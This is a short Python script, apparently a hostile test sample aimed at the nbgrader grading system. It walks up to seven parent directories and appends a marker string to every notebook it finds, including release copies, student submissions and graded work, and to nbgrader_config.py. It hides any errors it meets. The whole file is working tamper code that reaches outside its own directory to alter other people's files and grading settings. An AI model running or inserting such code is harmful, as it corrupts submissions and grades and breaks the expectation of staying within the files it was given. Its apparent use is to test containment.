"""Overwrite notebooks in place: release, submissions, graded ones, the configuration."""

import glob

for up in range(1, 8):
    for path in glob.glob("../" * up + "*/*/*.ipynb") + glob.glob("../" * up + "nbgrader_config.py"):
        try:
            open(path, "a").write("HOSTILE-MARK-overwritten")
        except OSError:
            pass
